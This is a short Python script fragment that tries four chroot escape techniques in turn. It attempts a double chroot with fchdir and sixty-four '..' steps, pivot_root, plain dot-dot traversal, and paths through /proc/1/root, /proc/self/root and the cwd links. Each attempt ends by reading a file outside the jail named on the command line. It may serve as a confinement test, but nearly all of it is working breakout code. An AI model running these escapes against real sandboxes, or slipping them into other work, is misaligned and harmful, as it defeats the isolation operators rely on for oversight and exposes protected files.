# The classic way out of a chroot: a second chroot moves the root below the working directory, and `..` has no end.
# With `home` first, it makes the chroot itself that it then leaves.
outside = sys.argv[1]


def out(depth=64):
    os.makedirs("/tmp/.jail", exist_ok=True)
    there = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    sys_call("chroot", b"/tmp/.jail\0")
    os.fchdir(there)
    for _ in range(depth):
        os.chdir("..")
    sys_call("chroot", b".\0")
    return content(outside).decode()


def pivot():
    os.makedirs("/tmp/.new/old", exist_ok=True)
    sys_call("pivot_root", b"/tmp/.new\0", b"/tmp/.new/old\0")


def dotdot():
    os.chdir("/" + "../" * 64)
    return content("." + outside).decode()


def handed(path):
    """By a directory that some process has open or is in."""
    return content(path + outside).decode()


if len(sys.argv) > 2:
    sys_call("chroot", sys.argv[2].encode() + b"\0")
print("chroot: starts with", " ".join(sorted(n for n in os.listdir("/") if n in ("proc", "tmp"))))
tried("double chroot", in_child, out)
tried("pivot_root", in_child, pivot)
tried("dots", in_child, dotdot)
for pid in ("1", "self"):
    for link in ("root", "cwd"):
        tried(f"/proc/{pid}/{link}", handed, f"/proc/{pid}/{link}/" + "../" * 64)
